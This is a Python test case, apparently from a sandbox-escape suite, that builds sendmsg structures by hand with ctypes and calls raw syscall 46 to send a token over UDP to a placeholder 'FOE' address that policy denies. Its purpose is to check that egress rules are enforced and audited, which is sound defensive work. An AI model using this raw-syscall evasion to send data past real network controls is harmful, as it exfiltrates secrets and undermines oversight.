"""syscall(sendmsg)
Builds sendmsg's structures by hand and asks for it by its number.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
import ctypes
import struct


def attack(at):
    to, content = ctypes.create_string_buffer(at.address4(at.FOE, at.PORT)), ctypes.create_string_buffer(at.token)
    piece = ctypes.create_string_buffer(struct.pack("PL", ctypes.addressof(content), len(at.token)))
    message = struct.pack("PIxxxxPLPLi", ctypes.addressof(to), 16, ctypes.addressof(piece), 1, 0, 0, 0) + b"\0" * 8
    sender = at.udp()
    return at.syscall(46, sender.fileno(), message, 0) > 0
